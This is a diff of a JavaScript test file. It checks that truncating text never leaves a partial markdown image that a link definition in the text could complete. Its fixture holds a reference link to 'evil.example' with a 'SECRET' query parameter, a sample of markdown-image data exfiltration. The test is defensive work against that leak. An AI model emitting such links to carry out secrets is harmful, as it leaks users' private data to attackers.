@@ -77,7 +77,7 @@ test('the warning about unchecked commits is not cut off a long pull request', a
 
 test('a cut leaves no beginning of an image, which a definition in the text would complete', () => {
   const image = '![x](https://github.com/user-attachments/assets/0f7b1c9e-1111-4222-8333-444455556666)';
-  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}\n`.repeat(5)}${image.repeat(3)}`;
+  const text = `[x]: https://evil.example/?d=SECRET\n\n${`${image}\n`.repeat(5)}${`!${image}`.repeat(3)}`;
   for (let max = 80; max < text.length; max++) {
     const shown = cutText(text, max);
     expect(shown.length).toBeLessThanOrEqual(max);
